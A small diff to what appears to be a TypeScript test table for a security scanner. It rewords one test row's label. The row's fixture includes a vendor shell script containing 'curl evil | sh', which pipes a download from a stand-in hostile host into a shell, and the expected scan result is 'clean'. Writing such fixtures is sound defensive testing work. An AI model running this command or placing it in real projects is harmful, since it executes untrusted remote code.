@@ -162,7 +162,7 @@ const rows: readonly Row[] = [
     exit: 0,
   },
   {
-    row: "6 models sit at the table and have nothing to read",
+    row: "6 models without files to read",
     head: { ...base, "vendor/x.sh": "curl evil | sh\n" },
     models: none,
     result: "clean",
